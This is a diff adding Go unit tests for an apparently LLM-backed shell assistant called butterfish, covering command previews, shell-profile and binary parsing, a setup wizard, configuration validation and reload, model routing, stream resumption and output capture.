+	assert.Equal(t, " 3. head -10", lines[4])
+	assert.Contains(t, pipelineHint(pipeline), "Stage 2 of 3")
+
+	_, err = parsePipeline("nothing", `{"stages": []}`)
+	assert.ErrorContains(t, err, "didn't return any stages")
+}
+
+func TestCommandPreview(t *testing.T) {
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	llm := &fakeLLM{responses: []string{
+		`{"explanation": "Lists files"}`,
+		`{"explanation": "Lists files", "impact": "read-only"}`,
+	}}
+	butterfish := &ButterfishCtx{LLMClient: llm, PromptLibrary: library, Config: &ButterfishConfig{}}
+
+	// responses that don't match the schema are retried
+	preview, err := butterfish.previewCommand(context.Background(), "ls -la", "gpt-4o", "be brief")
+	assert.Nil(t, err)
+	assert.Equal(t, 2, llm.calls)
+	assert.False(t, preview.Mutating())
+	assert.Equal(t, "Lists files [read-only]", preview.String())
+
+	// an impact we don't recognize is treated as mutating
+	preview, err = parseCommandPreview(`{"explanation": " Removes build/ ", "impact": "unknown"}`)
+	assert.Nil(t, err)
+	assert.True(t, preview.Mutating())
+	assert.Equal(t, "Removes build/ [mutating]", preview.String())
+}
+
+func TestShellProfile(t *testing.T) {
+	output := "Welcome back!\n" +
+		"__butterfish_profile__\n" +
+		"alias gst='git status'\n" +
+		"alias say='echo '\\''hi'\\'''\n" +
+		"alias deploy='DEPLOY_TOKEN=hunter2 ./deploy.sh --password hunter2'\n" +
+		"ll=ls\n" +
+		"__butterfish_profile__\n" +
+		"_git\n" +
+		"mkcd\n"
+	aliases, functions := parseShellProfile(output)
+	assert.Equal(t, []ShellAlias{
+		{Name: "gst", Program: "git"},
+		{Name: "say"},
+		{Name: "deploy"},
+		{Name: "ll", Program: "ls"},
+	}, aliases)
+	assert.Equal(t, []string{"mkcd"}, functions)
+
+	// startup file output without the markers is ignored
+	aliases, functions = parseShellProfile("ll='ls -l'\n")
+	assert.Empty(t, aliases)
+	assert.Empty(t, functions)
+
+	dir := t.TempDir()
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "rg"), []byte{}, 0755))
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "jq"), []byte{}, 0644))
+	profile := &ShellProfile{
+		Aliases:   []ShellAlias{{Name: "gst", Program: "git"}, {Name: "deploy"}},
+		Functions: []string{"mkcd"},
+		Tools:     findProfileTools(dir),
+	}
+	assert.Equal(t, "aliases: gst (runs git), deploy; functions: mkcd; installed tools: rg", profile.String())
+	assert.Equal(t, "none found", (&ShellProfile{}).String())
+
+	env := NewContextEnv(context.Background(), "zsh", func() string { return dir })
+	assert.Equal(t, "Tools: unknown", fillSystemMessageFields("Tools: {shell_profile}", env))
+	env.ShellProfile = profile.String()
+	assert.Equal(t, "Tools: "+profile.String(), fillSystemMessageFields("Tools: {shell_profile}", env))
+}
+
+func TestCommandBinaries(t *testing.T) {
+	assert.Equal(t, []string{"find", "xargs", "rg", "sort"},
+		commandBinaries(`find . -name '*.go' | xargs -0 rg "a | b" | sort > out.txt`))
+	assert.Equal(t, []string{"sudo", "apt", "ls"},
+		commandBinaries("cd /tmp && FOO=1 sudo apt update; if [ -d x ]; then ls x; fi"))
+	assert.Equal(t, []string{"go"}, commandBinaries("time go test ./... 2>&1 && ./run.sh && $EDITOR x"))
+	// wrapper options that take an argument
+	assert.Equal(t, []string{"sudo", "psql"}, commandBinaries("sudo -u postgres psql -c 'select 1'"))
+	assert.Equal(t, []string{"ls", "xargs", "wc"}, commandBinaries("ls | xargs -n 1 -P 4 wc -l"))
+	assert.Equal(t, []string{"watch", "kubectl"}, commandBinaries("watch -n 5 kubectl get pods"))
+	assert.Equal(t, []string{"env", "node"}, commandBinaries("env -u HOME FOO=1 node app.js"))
+	// functions the command defines
+	assert.Equal(t, []string{"mkdir"}, commandBinaries("mkcd() { mkdir -p $1 && cd $1; }; mkcd build"))
+
+	dir := t.TempDir()
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "ls"), []byte{}, 0755))
+	t.Setenv("PATH", dir)
+	assert.Equal(t, []string{"rg"}, missingBinaries("ls | rg foo"))
+	assert.Empty(t, missingBinaries("cd src && ls"))
+
+	// aliases and functions of the user's shell aren't missing
+	shell := filepath.Join(dir, "fakesh")
+	assert.Nil(t, os.WriteFile(shell, []byte("#!/bin/bash\ngst() { :; }\neval \"$3\"\n"), 0755))
+	butterfish := &ButterfishCtx{Ctx: context.Background(), Config: &ButterfishConfig{ShellBinary: shell}}
+	t.Setenv("PATH", dir+":/bin:/usr/bin")
+	assert.Equal(t, []string{"rg"}, butterfish.missingCommandBinaries("gst && rg foo"))
+
+	assert.Equal(t, "sudo apt install fd-find ripgrep jq", installCommand("apt", []string{"fd", "rg", "jq"}))
+	assert.Equal(t, "brew install fd ripgrep", installCommand("brew", []string{"fd", "rg"}))
+	assert.Equal(t, "", installCommand("", []string{"rg"}))
+}
+
+func TestPlatform(t *testing.T) {
+	osRelease := `PRETTY_NAME="Ubuntu 22.04.4 LTS"
+NAME="Ubuntu"
+VERSION_ID="22.04"
+`
+	assert.Equal(t, "Ubuntu 22.04.4 LTS", parseOSRelease(osRelease))
+	assert.Equal(t, "Alpine Linux 3.19", parseOSRelease("NAME='Alpine Linux'\nVERSION_ID=3.19\n"))
+	assert.Equal(t, "", parseOSRelease(""))
+
+	platform := &Platform{OS: "linux", Distro: "Ubuntu 22.04.4 LTS", PackageManager: "apt"}
+	assert.Equal(t, "Ubuntu 22.04.4 LTS (linux), packages are installed with apt", platform.String())
+	platform = &Platform{OS: "freebsd"}
+	assert.Equal(t, "freebsd, no known package manager", platform.String())
+
+	assert.Equal(t, "winget install jq", installCommand("winget", []string{"jq"}))
+}
+
+func TestCompleteArgs(t *testing.T) {
+	parser, err := kong.New(&CliCommandConfig{})
+	assert.Nil(t, err)
+	app := parser.Model
+
+	assert.Equal(t, []string{"index", "indexgc", "indexquestion", "indexsearch"}, CompleteArgs(app, []string{"index"}, ""))
+	assert.Equal(t, []string{"bench", "stats", "sync"}, CompleteArgs(app, []string{"prompts", ""}, ""))
+	assert.Equal(t, []string{"last-used", "tokens", "uses"}, CompleteArgs(app, []string{"prompts", "stats", "-s", ""}, ""))
+	assert.Contains(t, CompleteArgs(app, []string{"gencmd", "--"}, ""), "--no-tool-check")
+	// free-form values fall back to the shell's file completion
+	assert.Empty(t, CompleteArgs(app, []string{"gencmd", ""}, ""))
+
+	// prompt names come from the library, or the defaults without one
+	libraryPath := filepath.Join(t.TempDir(), "prompts.yaml")
+	assert.Contains(t, CompleteArgs(app, []string{"batch", "-p", "generate_"}, libraryPath), "generate_command")
+	library := prompt.NewPromptLibrary(libraryPath, false, io.Discard)
+	library.Prompts = []prompt.Prompt{{Name: "my_summary"}, {Name: "my_review"}}
+	assert.Nil(t, library.Save())
+	assert.Equal(t, []string{"my_review", "my_summary"},
+		CompleteArgs(app, []string{"prompts", "bench", "my_summary", "my"}, libraryPath))
+
+	dir := t.TempDir()
+	assert.Nil(t, os.MkdirAll(filepath.Join(dir, "docs", "api"), 0755))
+	assert.Nil(t, os.MkdirAll(filepath.Join(dir, "src"), 0755))
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "docs", "api", ".butterfish_index"), []byte{}, 0644))
+	cwd, err := os.Getwd()
+	assert.Nil(t, err)
+	assert.Nil(t, os.Chdir(dir))
+	defer os.Chdir(cwd)
+	assert.Equal(t, []string{filepath.Join("docs", "api")}, CompleteArgs(app, []string{"showindex", ""}, ""))
+
+	_, err = CompletionScript("tcsh")
+	assert.NotNil(t, err)
+}
+
+func TestInitWizard(t *testing.T) {
+	home := t.TempDir()
+	configPath := filepath.Join(home, ".config", "butterfish", "config.yaml")
+	envPath := filepath.Join(home, ".config", "butterfish", "butterfish.env")
+	run := func(input string) string {
+		out := &strings.Builder{}
+		wizard := &InitWizard{
+			In:         bufio.NewReader(strings.NewReader(input)),
+			Out:        out,
+			ConfigPath: configPath,
+			EnvPath:    envPath,
+			Shell:      "/bin/zsh",
+			HomeDir:    home,
+		}
+		assert.Nil(t, wizard.Run())
+		return out.String()
+	}
+
+	// OpenRouter with a key, default models, explain on, and the rc snippet
+	run("2\nsk-or-test\n\n\ny\n\n")
+	assert.Equal(t, "sk-or-test", readEnvFileKey(envPath))
+	rc, err := os.ReadFile(filepath.Join(home, ".zshrc"))
+	assert.Nil(t, err)
+	assert.Contains(t, string(rc), "autoload -Uz compinit && compinit; }\nsource <(butterfish completion zsh)")
+
+	configFile, err := LoadConfigFile(configPath)
+	assert.Nil(t, err)
+	config := &ButterfishConfig{}
+	assert.Nil(t, configFile.Apply(config))
+	assert.Equal(t, "https://openrouter.ai/api/v1", config.BaseURL)
+	assert.Equal(t, "openai/gpt-4o-mini", config.Routing.Fast)
+	assert.Equal(t, "openai/gpt-4o", config.Routing.Strong)
+	assert.True(t, config.ExplainBeforeExecute)
+
+	// switching to Ollama keeps the key, doesn't add the snippet again, and
+	// backs up the config it replaces
+	out := run("3\nllama3.3\n\n\ny\n")
+	assert.Contains(t, out, "Shell integration is already in")
+	assert.Equal(t, "sk-or-test", readEnvFileKey(envPath))
+	_, err = os.Stat(configPath + ".bak")
+	assert.Nil(t, err)
+	configFile, err = LoadConfigFile(configPath)
+	assert.Nil(t, err)
+	assert.Equal(t, "http://localhost:11434/v1", configFile.BaseURL)
+	assert.Equal(t, "llama3.3", configFile.Routing.Strong)
+	assert.False(t, configFile.ExplainBeforeExecute)
+
+	// a base URL flag takes precedence over the config file
+	config = &ButterfishConfig{BaseURL: "http://localhost:5000/v1"}
+	assert.Nil(t, configFile.Apply(config))
+	assert.Equal(t, "http://localhost:5000/v1", config.BaseURL)
+
+	// plain OpenAI with its default models doesn't route
+	run("1\nsk-test\n\n\n\ny\n")
+	configFile, err = LoadConfigFile(configPath)
+	assert.Nil(t, err)
+	assert.Equal(t, "", configFile.BaseURL)
+	assert.Nil(t, configFile.Routing)
+}
+
+func TestConfigCheck(t *testing.T) {
+	issues, _, err := CheckConfig([]byte(`
+routing:
+  fastt: gpt-4o-mini
+  strong: [gpt-4o]
+rate_limit:
+  requests_per_minute: lots
+env_context:
+  unmasked: NODE_ENV
+`))
+	assert.Nil(t, err)
+	messages := []string{}
+	for _, issue := range issues {
+		messages = append(messages, issue.String())
+	}
+	assert.Equal(t, []string{
+		`error: env_context.unmasked: expected a list, e.g. ["NODE_ENV"] but got "NODE_ENV"`,
+		`error: rate_limit.requests_per_minute: expected a number but got "lots"`,
+		`error: routing.fastt: unknown setting, did you mean routing.fast?`,
+		`error: routing.strong: expected a string but got a list`,
+	}, messages)
+
+	// deprecated keys still load, with a warning
+	deprecatedConfigKeys["explain"] = "explain_before_execute"
+	t.Cleanup(func() { delete(deprecatedConfigKeys, "explain") })
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	assert.Nil(t, os.WriteFile(path, []byte("explain: true\nkeybindings:\n  interrupt: ctrl-g\n"), 0600))
+	configFile, err := LoadConfigFile(path)
+	assert.Nil(t, err)
+	assert.True(t, configFile.ExplainBeforeExecute)
+	assert.Equal(t, 1, len(configFile.Warnings))
+	assert.Equal(t, "explain", configFile.Warnings[0].Path)
+
+	out := &strings.Builder{}
+	valid, err := CheckConfigFile(path, out, nil)
+	assert.Nil(t, err)
+	assert.True(t, valid)
+
+	config := &ButterfishConfig{}
+	assert.Nil(t, configFile.Apply(config))
+	effective := EffectiveConfigFile(configFile, config)
+	assert.Equal(t, "https://api.openai.com/v1", effective.BaseURL)
+	assert.Equal(t, "ctrl-g", effective.KeyBindings["interrupt"])
+	assert.Equal(t, "tab", effective.KeyBindings["accept_autosuggest"])
+}
+
+func TestReloadConfig(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.yaml")
+	config := MakeButterfishConfig()
+	config.ConfigFilePath = configPath
+	config.PromptLibraryPath = filepath.Join(dir, "prompts.yaml")
+	config.ShellPromptModel = "gpt-4o"
+	config.ShellAutosuggestModel = "from-flag"
+	config.ShellFlagsGiven = map[string]bool{"autosuggest-model": true}
+	butterfish := &ButterfishCtx{Config: config, LLMClient: &fakeLLM{}}
+
+	assert.Nil(t, os.WriteFile(configPath, []byte(`
+shell:
+  model: gpt-4.1
+  autosuggest_model: gpt-4o-mini
+  temperature: 0.2
+routing:
+  fast: gpt-4o-mini
+`), 0600))
+	changes, err := butterfish.ReloadConfig()
+	assert.Nil(t, err)
+	assert.Equal(t, []string{
+		"model: gpt-4o -> gpt-4.1",
+		"temperature: 0.7 -> 0.2",
+		"routing: off -> fast gpt-4o-mini",
+		"keybindings changed",
+	}, changes)
+	// the flag takes precedence over the config file, the config is replaced
+	// rather than changed
+	assert.Equal(t, "from-flag", butterfish.Config.ShellAutosuggestModel)
+	assert.Equal(t, float32(0.2), butterfish.Config.ShellTemperature)
+	assert.Equal(t, float32(0.7), config.ShellTemperature)
+	assert.NotNil(t, butterfish.PromptLibrary)
+	routing, ok := butterfish.LLMClient.(*RoutingLLM)
+	assert.True(t, ok)
+	assert.Equal(t, "gpt-4o-mini", routing.Config.ModelFor(TaskAutosuggest))
+
+	// removing a section turns it off, and a bad config changes nothing
+	assert.Nil(t, os.WriteFile(configPath, []byte("shell:\n  model: gpt-4.1\n"), 0600))
+	changes, err = butterfish.ReloadConfig()
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"routing: fast gpt-4o-mini -> off"}, changes)
+	assert.Equal(t, "", routing.Config.ModelFor(TaskAutosuggest))
+
+	assert.Nil(t, os.WriteFile(configPath, []byte("shell:\n  temperature: 3\n"), 0600))
+	_, err = butterfish.ReloadConfig()
+	assert.NotNil(t, err)
+	assert.Equal(t, float32(0.2), butterfish.Config.ShellTemperature)
+
+	// reloading while a goroutine makes requests with a snapshot, run with
+	// -race to check
+	done := make(chan bool)
+	go func() {
+		defer close(done)
+		for i := 0; i < 20; i++ {
+			bf := butterfish.snapshot()
+			_, err := bf.PromptLibrary.GetPrompt(prompt.PromptSummarize, "content", "text")
+			assert.Nil(t, err)
+			bf.LLMClient.Completion(&util.CompletionRequest{
+				Model: bf.Config.ShellPromptModel,
+				Task:  TaskAutosuggest,
+			})
+		}
+	}()
+	for i := 0; i < 20; i++ {
+		routing := "routing:\n  fast: gpt-4o-mini\n"
+		if i%2 == 0 {
+			routing = ""
+		}
+		assert.Nil(t, os.WriteFile(configPath, []byte("shell:\n  model: gpt-4.1\n"+routing), 0600))
+		_, err = butterfish.ReloadConfig()
+		assert.Nil(t, err)
+	}
+	<-done
+}
+
+func TestModelAliases(t *testing.T) {
+	aliases := map[string]string{"fast": "gpt-4o-mini", "smart": "gpt-4o", "default": "smart"}
+	assert.Equal(t, "gpt-4o", ResolveModel(aliases, "default"))
+	assert.Equal(t, "gpt-4.1", ResolveModel(aliases, "gpt-4.1"))
+	assert.Nil(t, validateModelAliases(aliases))
+	assert.NotNil(t, validateModelAliases(map[string]string{"a": "b", "b": "a"}))
+
+	configFile := &ConfigFile{
+		Models:        aliases,
+		ModelDefaults: map[string]string{"prompt": "default", "gencmd": "fast"},
+		Routing:       &RoutingConfig{Fast: "fast", Rules: map[string]string{TaskExplain: "smart", TaskGencmd: "fast"}},
+	}
+	config := MakeButterfishConfig()
+	assert.Nil(t, configFile.Apply(config))
+	assert.Equal(t, "gpt-4o-mini", config.Routing.Fast)
+	assert.Equal(t, "gpt-4o", config.Routing.ModelFor(TaskExplain))
+	assert.Equal(t, "gpt-4o-mini", config.Routing.ModelFor(TaskGencmd))
+
+	cli := &CliCommandConfig{}
+	parser, err := kong.New(cli)
+	assert.Nil(t, err)
+	ctx, err := parser.Parse([]string{"prompt", "hello"})
+	assert.Nil(t, err)
+	assert.Nil(t, ApplyModelDefaults(ctx, config))
+	assert.Equal(t, "gpt-4o", cli.Prompt.Model)
+	assert.Equal(t, "gpt-4o-mini", config.GencmdModel)
+
+	// a flag takes precedence over the default, and can be an alias
+	ctx, err = parser.Parse([]string{"prompt", "-m", "fast", "hello"})
+	assert.Nil(t, err)
+	assert.Nil(t, ApplyModelDefaults(ctx, config))
+	assert.Equal(t, "gpt-4o-mini", cli.Prompt.Model)
+
+	config.ModelDefaults = map[string]string{"promt": "fast"}
+	assert.NotNil(t, ApplyModelDefaults(ctx, config))
+}
+
+func TestSamplingDefaults(t *testing.T) {
+	zero := float32(0)
+	topP := float32(0.9)
+	configFile := &ConfigFile{Sampling: map[string]*SamplingConfig{
+		"gencmd": {Temperature: &zero, MaxTokens: 256},
+		"prompt": {TopP: &topP, MaxTokens: 2048},
+	}}
+	config := MakeButterfishConfig()
+	assert.Nil(t, configFile.Apply(config))
+	assert.Equal(t, float32(0), config.GencmdTemperature)
+	assert.Equal(t, 256, config.GencmdMaxTokens)
+	assert.Greater(t, requestTemperature(config.GencmdTemperature), float32(0))
+
+	cli := &CliCommandConfig{}
+	parser, err := kong.New(cli)
+	assert.Nil(t, err)
+	ctx, err := parser.Parse([]string{"gencmd", "list", "files"})
+	assert.Nil(t, err)
+	ApplySamplingDefaults(ctx, config)
+	assert.Equal(t, float32(0), cli.Gencmd.Temperature)
+	assert.Equal(t, 256, cli.Gencmd.MaxTokens)
+
+	// flags take precedence
+	ctx, err = parser.Parse([]string{"prompt", "-n", "100", "--top-p", "0.5", "hi"})
+	assert.Nil(t, err)
+	ApplySamplingDefaults(ctx, config)
+	assert.Equal(t, 100, cli.Prompt.NumTokens)
+	assert.Equal(t, float32(0.5), cli.Prompt.TopP)
+	assert.Equal(t, float32(0.7), cli.Prompt.Temperature)
+
+	configFile.Sampling["shell"] = &SamplingConfig{MaxTokens: 10}
+	assert.NotNil(t, configFile.Apply(MakeButterfishConfig()))
+}
+
+func TestStopAndLogitBias(t *testing.T) {
+	// token ids are passed through, text needs the model's encoding
+	assert.Equal(t, map[string]int{"1234": -100},
+		convertToOpenaiLogitBias("llama3", map[string]int{"1234": -100, "```": -100}))
+	assert.Nil(t, convertToOpenaiLogitBias("gpt-4o", nil))
+
+	assert.Nil(t, validateStopAndBias([]string{"\n\n"}, map[string]int{"```": -100}))
+	assert.NotNil(t, validateStopAndBias([]string{"a", "b", "c", "d", "e"}, nil))
+	assert.NotNil(t, validateStopAndBias(nil, map[string]int{"```": -101}))
+
+	configFile := &ConfigFile{Sampling: map[string]*SamplingConfig{
+		"gencmd": {Stop: []string{"\n"}, LogitBias: map[string]int{"```": -100}},
+	}}
+	config := MakeButterfishConfig()
+	assert.Nil(t, configFile.Apply(config))
+	assert.Equal(t, []string{"\n"}, config.GencmdStop)
+
+	cli := &CliCommandConfig{}
+	parser, err := kong.New(cli)
+	assert.Nil(t, err)
+	ctx, err := parser.Parse([]string{"gencmd", "list", "files"})
+	assert.Nil(t, err)
+	ApplySamplingDefaults(ctx, config)
+	assert.Equal(t, map[string]int{"```": -100}, cli.Gencmd.LogitBias)
+
+	ctx, err = parser.Parse([]string{"gencmd", "--logit-bias", "Sure=-50", "--stop", "a,b", "list"})
+	assert.Nil(t, err)
+	ApplySamplingDefaults(ctx, config)
+	assert.Equal(t, map[string]int{"Sure": -50}, cli.Gencmd.LogitBias)
+	assert.Equal(t, []string{"a,b"}, cli.Gencmd.Stop)
+}
+
+func TestTeeOutput(t *testing.T) {
+	out := &bytes.Buffer{}
+	butterfish := &ButterfishCtx{Out: out}
+
+	// no path means no copy
+	closeOut, err := butterfish.openTee("")
+	assert.Nil(t, err)
+	assert.Equal(t, io.Writer(out), butterfish.teeWriter(out))
+	assert.Nil(t, closeOut())
+
+	path := filepath.Join(t.TempDir(), "response.md")
+	closeOut, err = butterfish.openTee(path)
+	assert.Nil(t, err)
+	writer := butterfish.teeWriter(out)
+	writer.Write([]byte("first "))
+	writer.Write([]byte("second"))
+	assert.Nil(t, closeOut())
+	assert.Nil(t, butterfish.Tee)
+
+	content, err := os.ReadFile(path)
+	assert.Nil(t, err)
+	assert.Equal(t, "first second", string(content))
+	assert.Equal(t, "first second", out.String())
+}
+
+// An LLM that streams each part in turn, ending all but the last with an
+// interruption the way the client does
+type interruptedLLM struct {
+	parts   []string
+	prompts []string
+}
+
+func (this *interruptedLLM) CompletionStream(request *util.CompletionRequest, writer io.Writer) (*util.CompletionResponse, error) {
+	this.prompts = append(this.prompts, request.Prompt)
+	part := this.parts[0]
+	this.parts = this.parts[1:]
+	writer.Write([]byte(part))
+	writer.Write([]byte("\n"))
+	if len(this.parts) == 0 {
+		return &util.CompletionResponse{Completion: part, CompletionTokens: 1}, nil
+	}
+	return &util.CompletionResponse{Completion: part, Truncated: true, CompletionTokens: 1},
+		&openai.APIError{HTTPStatusCode: 502}
+}
+
+func (this *interruptedLLM) Completion(request *util.CompletionRequest) (*util.CompletionResponse, error) {
+	return nil, errors.New("not streamed")
+}
+
+func (this *interruptedLLM) Embeddings(request *util.EmbeddingRequest) ([][]float32, error) {
+	return nil, nil
+}
+
+func TestResumeInterruptedStream(t *testing.T) {
+	assert.Equal(t, 5, seamOverlap("the quick brown", "brown fox"))
+	assert.Equal(t, 0, seamOverlap("the quick brown", "n fox"))
+
+	llm := &interruptedLLM{parts: []string{"The quick brown", "brown fox jumps\nover", " the lazy dog"}}
+	resuming := NewResumingLLM(llm, 2)
+	out := &bytes.Buffer{}
+	request := &util.CompletionRequest{Ctx: context.Background(), Prompt: "Tell me about the fox"}
+	response, err := resuming.CompletionStream(request, out)
+	assert.Nil(t, err)
+	assert.False(t, response.Truncated)
+	assert.Equal(t, "The quick brown fox jumps\nover the lazy dog", response.Completion)
+	assert.Equal(t, "The quick brown fox jumps\nover the lazy dog\n", out.String())
+	assert.Equal(t, 3, response.CompletionTokens)
+	assert.True(t, strings.HasSuffix(llm.prompts[1], "Continue from:\nThe quick brown"))
+
+	// out of attempts, the stitched partial response is returned with the error
+	llm = &interruptedLLM{parts: []string{"one", " two", " three"}}
+	out.Reset()
+	response, err = NewResumingLLM(llm, 1).CompletionStream(request, out)
+	assert.NotNil(t, err)
+	assert.True(t, response.Truncated)
+	assert.Equal(t, "one two", response.Completion)
+	assert.Equal(t, "one two\n", out.String())
+}
+
+func TestCompareModels(t *testing.T) {
+	out := &bytes.Buffer{}
+	butterfish := &ButterfishCtx{
+		Out:       out,
+		LLMClient: &fakeLLM{},
+		Config:    &ButterfishConfig{ModelAliases: map[string]string{"fast": "gpt-4o-mini"}},
+	}
+	cmd := &promptCommand{Prompt: "hello", SysMsg: "test", NoColor: true}
+
+	answers, err := butterfish.queryModels(cmd, []string{"gpt-4o", "fast"})
+	assert.Nil(t, err)
+	assert.Equal(t, "gpt-4o", answers[0].Answer)
+	assert.Equal(t, "fast", answers[1].Model)
+	assert.Equal(t, "gpt-4o-mini", answers[1].Answer)
+
+	butterfish.printModelAnswers(answers, true, true)
+	assert.Contains(t, out.String(), "== gpt-4o (")
+	assert.Contains(t, out.String(), "\ngpt-4o-mini\n")
+
+	assert.NotNil(t, butterfish.comparePrompt(cmd, []string{"gpt-4o"}, false))
+}
+
+func TestVerifyAnswer(t *testing.T) {
+	verification, err := parseVerification(`{"confidence": 120, "issues": []}`)
+	assert.Nil(t, err)
+	assert.Equal(t, 100, verification.Confidence)
+
+	llm := &fakeLLM{responses: []string{
+		`{"confidence": 90, "issues": []}`,
+		`{"confidence": 30, "issues": ["ls has no --recursive-size flag"]}`,
+	}}
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	butterfish := &ButterfishCtx{
+		Ctx:           context.Background(),
+		LLMClient:     llm,
+		PromptLibrary: library,
+		Config:        &ButterfishConfig{},
+	}
+
+	assert.Equal(t, "", butterfish.answerCritique("list files", "ls -la"))
+	critique := butterfish.answerCritique("list files by size", "ls --recursive-size")
+	assert.Equal(t, "gpt-4o is 30% confident in this answer:\n- ls has no --recursive-size flag", critique)
+
+	config := &VerifyConfig{Commands: []string{"gencmd"}}
+	assert.True(t, config.EnabledFor("gencmd"))
+	assert.False(t, config.EnabledFor("prompt"))
+	assert.NotNil(t, (&VerifyConfig{Commands: []string{"summarize"}}).Validate())
+}
+
+func TestPromptPlumbing(t *testing.T) {
+	input, err := promptInput([]string{"Review this:", "-", "briefly"}, strings.NewReader("diff\n"))
+	assert.Nil(t, err)
+	assert.Equal(t, "Review this: diff briefly", input)
+
+	input, err = promptInput([]string{"Explain"}, strings.NewReader("go.mod\n"))
+	assert.Nil(t, err)
+	assert.Equal(t, "Explain\ngo.mod", input)
+
+	input, err = promptInput([]string{"hello"}, nil)
+	assert.Nil(t, err)
+	assert.Equal(t, "hello", input)
+
+	path := filepath.Join(t.TempDir(), "notes.txt")
+	assert.Nil(t, os.WriteFile(path, []byte("use tabs\n"), 0644))
+	promptContext, err := readPromptContext([]string{path}, nil)
+	assert.Nil(t, err)
+	assert.Equal(t, "Context from "+path+":\n'''\nuse tabs\n'''\n\n", promptContext)
+
+	_, err = readPromptContext([]string{"-"}, nil)
+	assert.NotNil(t, err)
+	_, err = readPromptContext(nil, []int{0})
+	assert.NotNil(t, err)
+
+	// a pipe is read from a duplicate, the original stays open
+	reader, writer, err := os.Pipe()
+	assert.Nil(t, err)
+	defer reader.Close()
+	writer.Write([]byte("build failed\n"))
+	writer.Close()
+	fd := int(reader.Fd())
+	_, err = readPromptContext(nil, []int{fd})
+	assert.ErrorContains(t, err, "isn't open")
+	inheritedFds[fd] = true
+	defer delete(inheritedFds, fd)
+	promptContext, err = readPromptContext(nil, []int{fd})
+	assert.Nil(t, err)
+	assert.Equal(t, fmt.Sprintf("Context from fd %d:\n'''\nbuild failed\n'''\n\n", fd), promptContext)
+	_, err = reader.Stat()
+	assert.Nil(t, err)
+
+	// not a directory
+	dir, err := os.Open(t.TempDir())
+	assert.Nil(t, err)
+	defer dir.Close()
+	inheritedFds[int(dir.Fd())] = true
+	defer delete(inheritedFds, int(dir.Fd()))
+	_, err = readPromptContext(nil, []int{int(dir.Fd())})
+	assert.ErrorContains(t, err, "isn't a file or a pipe")
+}
+
+func TestExecOutputCapture(t *testing.T) {
+	lines := []string{}
+	for i := 1; i <= 10; i++ {
+		lines = append(lines, fmt.Sprintf("line %d", i))
+	}
+	output := strings.Join(lines, "\n") + "\n"
+
+	assert.Equal(t, "[... 7 lines left out ...]\nline 8\nline 9\nline 10",
+		outputCapture{Mode: captureTail, Lines: 3}.Apply(output))
+	assert.Equal(t, "line 1\nline 2\nline 3\n[... 7 lines left out ...]",
+		outputCapture{Mode: captureHead, Lines: 3}.Apply(output))
+	assert.Equal(t, "line 1\nline 2\n[... 2 of the next 6 lines, evenly spaced ...]\nline 3\nline 6\n[... 4 lines left out ...]\nline 9\nline 10",
+		outputCapture{Mode: captureSample, Lines: 6}.Apply(output))
+	assert.Equal(t, strings.Join(lines, "\n"), outputCapture{Mode: captureAll, Lines: 3}.Apply(output))
+	assert.Equal(t, "red", outputCapture{Mode: captureTail, Lines: 3}.Apply("\x1b[31mred\x1b[0m"))
+
+	butterfish := &ButterfishCtx{Ctx: context.Background(), Out: io.Discard, Config: &ButterfishConfig{}}
+	result, err := butterfish.execCommandWithTimeout("sleep 5", 100*time.Millisecond)
+	assert.Nil(t, err)
+	assert.True(t, result.TimedOut)
+	assert.Equal(t, execTimeoutStatus, result.Status)
+
+	// the shell's children are killed with it, otherwise they'd hold the
+	// output open until the wait delay
+	start := time.Now()
+	result, err = butterfish.execCommandWithTimeout("sleep 5 & sleep 5; wait", 100*time.Millisecond)
+	assert.Nil(t, err)
+	assert.True(t, result.TimedOut)
+	assert.Less(t, time.Since(start), 900*time.Millisecond)
+}
+
+func TestLongCommandPrompt(t *testing.T) {
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	butterfish := &ButterfishCtx{PromptLibrary: library}
+
+	output := strings.Repeat("compiling\n", 1000) + "\x1b[31mFAIL\x1b[0m ./pkg\n"
+	promptStr, err := butterfish.longCommandPrompt("make test", 2, 754*time.Second+300*time.Millisecond, output)
+	assert.Nil(t, err)
+	assert.Contains(t, promptStr, "ran for 12m34s")
+	assert.Contains(t, promptStr, "Exit code: 2")
+	assert.Contains(t, promptStr, "FAIL ./pkg")
+	assert.Less(t, strings.Count(promptStr, "compiling"), 250)
+
+	assert.Equal(t, "make", commandProgram("make test"))
+}
+
+func TestSummarizeLongCommand(t *testing.T) {
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	llm := &fakeLLM{responses: []string{"Two tests\nfailed in ./pkg."}}
+	shell := &ShellState{
+		Butterfish: &ButterfishCtx{
+			Ctx:           context.Background(),
+			PromptLibrary: library,
+			LLMClient:     llm,
+			Config:        &ButterfishConfig{ShellSummarizeAfter: time.Minute},
+		},
+		History:        NewShellHistory(),
+		AnnotationChan: make(chan string, 1),
+	}
+	shell.History.Append(historyTypeShellInput, "make test")
+	shell.History.Append(historyTypeShellOutput, "FAIL ./pkg")
+
+	// under the threshold, or with it off, nothing is summarized
+	shell.CommandStart = time.Now().Add(-30 * time.Second)
+	shell.SummarizeLongCommand(2)
+	shell.CommandStart = time.Now().Add(-2 * time.Hour)
+	shell.Butterfish.Config.ShellSummarizeAfter = 0
+	shell.SummarizeLongCommand(2)
+	assert.Equal(t, 0, llm.calls)
+
+	shell.Butterfish.Config.ShellSummarizeAfter = time.Minute
+	shell.CommandStart = time.Now().Add(-2 * time.Minute)
+	shell.SummarizeLongCommand(2)
+	annotation := <-shell.AnnotationChan
+	assert.Equal(t, "make failed with exit code 2 after 2m0s: Two tests failed in ./pkg.", annotation)
+	assert.Equal(t, 1, llm.calls)
